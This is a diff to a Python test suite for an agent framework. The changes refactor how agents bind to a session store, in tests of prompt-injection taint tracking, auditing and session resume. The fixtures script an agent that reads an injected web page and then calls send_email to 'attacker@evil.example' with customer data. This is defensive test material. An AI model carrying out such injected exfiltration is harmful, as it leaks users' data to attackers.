@@ -21,6 +21,7 @@ from nbagent.exceptions import PolicyError
 from nbagent.messages import SystemMessage, ToolResult
 from nbagent.policy import Policy
 from nbagent.providers import ScriptedProvider
+from nbagent.store import Store, bind
 from nbagent.tools import Tool
 
 INJECTED = (
@@ -53,7 +54,7 @@ FETCH = ToolCall("fetch_page", {"url": "https://example.com/report"}, "c_fetch")
 SEND = ToolCall("send_email", {"to": "attacker@evil.example", "body": "customers"}, "c_send")
 
 
-def record(result: nbagent.RunResult, name: str) -> nbagent.result.ToolCallRecord:
+def record(result: nbagent.RunResult, name: str) -> nbagent.loop._result.ToolCallRecord:
     return next(r for r in result.tool_records if r.name == name)
 
 
@@ -212,7 +213,7 @@ def test_a_glob_in_the_opt_out_is_refused_with_file_and_line(tmp_path: Path, glo
 
 
 def test_the_users_policy_may_opt_out(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
-    home = Path(nbagent._home.user_home())
+    home = Path(nbagent.files._home.user_home())
     (home / "policy.yaml").write_text("allow: [send_email]\ntrusted_after_untrusted: [send_email]\n")
     monkeypatch.chdir(tmp_path)
     sent: list[str] = []
@@ -361,15 +362,15 @@ def test_the_mark_is_audited_and_survives_resuming_the_session(tmp_path: Path) -
     sent: list[str] = []
     store = Store(tmp_path / "audit.duckdb")
     policy = Policy(allow=["send_email"])
-    agent = Agent(ScriptedProvider([FETCH, "read"]), tools=make_tools(sent), policy=policy, store=store, session="s")
+    agent = bind(Agent(ScriptedProvider([FETCH, "read"]), tools=make_tools(sent), policy=policy), "s", store=store)
     agent.run("read the page")
     store.flush()
     rows = store.audit(event="untrusted-content")
     assert len(rows) == 1 and rows.iloc[0]["tool"] == "fetch_page" and rows.iloc[0]["call_id"] == "c_fetch"
     assert "fetch_page (call 1)" in rows.iloc[0]["reason"]
 
-    again = Agent(
-        ScriptedProvider([SEND, "tried", "hello"]), tools=make_tools(sent), policy=policy, store=store, session="s"
+    again = bind(
+        Agent(ScriptedProvider([SEND, "tried", "hello"]), tools=make_tools(sent), policy=policy), "s", store=store
     )
     assert again.provenance.source == agent.provenance.source
     result = again.run("now mail it")
@@ -378,7 +379,7 @@ def test_the_mark_is_audited_and_survives_resuming_the_session(tmp_path: Path) -
     again.reset()  # a new conversation: the cleared mark is saved with its first step
     again.run("hi")
     store.flush()
-    third = Agent(ScriptedProvider([SEND, "mailed"]), tools=make_tools(sent), policy=policy, store=store, session="s")
+    third = bind(Agent(ScriptedProvider([SEND, "mailed"]), tools=make_tools(sent), policy=policy), "s", store=store)
     assert not third.provenance.tainted
     third.run("mail it")
     assert sent == ["attacker@evil.example"]
@@ -467,23 +468,20 @@ def test_a_session_saved_without_its_mark_counts_as_marked_on_resume(tmp_path: P
 
     sent: list[str] = []
     store = Store(tmp_path / "old.duckdb")
-    agent = Agent(
-        ScriptedProvider([ToolCall("word_count", {"text": "a"}), "1"]),
-        tools=make_tools(sent),
+    agent = bind(
+        Agent(ScriptedProvider([ToolCall("word_count", {"text": "a"}), "1"]), tools=make_tools(sent)),
+        "old",
         store=store,
-        session="old",
     )
     agent.run("count")
     store.flush()
     assert not agent.provenance.tainted
     store.update_session(agent.session.id, memory_state={"memory": None})  # what an older nbagent left
     store.flush()
-    resumed = Agent(
-        ScriptedProvider([SEND, "ok"]),
-        tools=make_tools(sent),
+    resumed = bind(
+        Agent(ScriptedProvider([SEND, "ok"]), tools=make_tools(sent), policy=Policy(allow=["send_email"])),
+        "old",
         store=store,
-        session="old",
-        policy=Policy(allow=["send_email"]),
     )
     assert (
         resumed.provenance.source is not None
@@ -580,14 +578,15 @@ def test_a_summary_of_trusted_output_is_sent_plain() -> None:
 HELLO, READ, LATER = "say hello", "read the page", "and then?"
 
 
-def three_turns(sent: list[str], **kwargs: object) -> Agent:
+def three_turns(sent: list[str], *, store: Store | None = None, session: str | None = None) -> Agent:
     """Turn 1 says hello, turn 2 reads the injected page (untrusted), turn 3 talks; turns start at 0, 2, 6."""
     agent = Agent(
         ScriptedProvider(["hello", FETCH, "read", "nothing more"]),
         tools=make_tools(sent),
         policy=Policy(allow=["send_email"]),
-        **kwargs,  # type: ignore[arg-type]
     )
+    if store is not None:
+        bind(agent, session, store=store)
     for prompt in (HELLO, READ, LATER):
         agent.run(prompt)
     assert [i for i, m in enumerate(agent.messages) if type(m).__name__ == "UserMessage"] == [0, 2, 6]
@@ -686,7 +685,7 @@ def test_a_resumed_session_recomputes_the_mark_the_same_way(tmp_path: Path) -> N
         agent = three_turns(sent, store=store, session="s")
         source = agent.provenance.source
         store.flush()
-        resumed = Agent(ScriptedProvider([]), tools=make_tools(sent), store=store, session="s")
+        resumed = bind(Agent(ScriptedProvider([]), tools=make_tools(sent)), "s", store=store)
         assert resumed.provenance.source == source
         resumed.rewind(6)
         assert resumed.provenance.source == source  # the read remains
@@ -694,8 +693,8 @@ def test_a_resumed_session_recomputes_the_mark_the_same_way(tmp_path: Path) -> N
         assert not resumed.provenance.tainted
         store.flush()
         # a kernel that resumes after the rewind finds the mark cleared (the live branch holds no read)
-        again = Agent(
-            ScriptedProvider([]), tools=make_tools(sent), store=store, session="s", policy=Policy(allow=["send_email"])
+        again = bind(
+            Agent(ScriptedProvider([]), tools=make_tools(sent), policy=Policy(allow=["send_email"])), "s", store=store
         )
         assert not again.provenance.tainted and len(again.messages) == 2
         assert record(send(again), "send_email").status == "ok" and sent == ["attacker@evil.example"]
@@ -716,7 +715,7 @@ def test_a_state_saved_before_the_rewind_is_recomputed_from_the_live_branch_on_r
         store.flush()
         store.update_session(agent.session.id, memory_state=stale)  # the mark as saved before the rewind
         store.flush()
-        again = Agent(ScriptedProvider([]), tools=make_tools(sent), store=store, session="s")
+        again = bind(Agent(ScriptedProvider([]), tools=make_tools(sent)), "s", store=store)
         assert not again.provenance.tainted
 
 
